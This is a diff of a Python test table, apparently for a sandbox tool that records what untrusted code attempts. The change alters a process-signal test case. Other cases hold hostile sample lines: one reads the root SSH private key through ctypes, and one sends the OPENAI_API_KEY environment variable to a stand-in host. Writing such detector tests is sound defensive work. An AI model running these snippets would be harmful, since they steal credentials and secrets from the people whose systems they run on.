@@ -93,7 +93,7 @@ CASES = {
     "outside": ("try: open('/var/openvet-was-here', 'w')\nexcept OSError: pass", {("open", "/var/openvet-was-here")}),
     "the model": ("import sys\ntry: open(PATH, 'a')\nexcept OSError: pass", {("open", "MODEL")}),
     "native": ("import ctypes\nctypes.CDLL(None).open(b'/root/.ssh/id_rsa', 0)", {("open", "/root/.ssh/id_rsa")}),
-    "signals": ("import os\ntry: os.kill(1, 0)\nexcept OSError: pass", {("kill", "process 1")}),
+    "signals": ("import os\ntry: os.kill(77777, 0)\nexcept OSError: pass", {("kill", "process 77777")}),
     "variable": ("import os, urllib.request\nurllib.request.urlopen('http://x.example/' + os.environ['OPENAI_API_KEY'], timeout=5)", {("urllib.Request", "http://x.example/<decoy of $OPENAI_API_KEY>, None, <dict>, GET")}),
 }  # fmt: skip
 
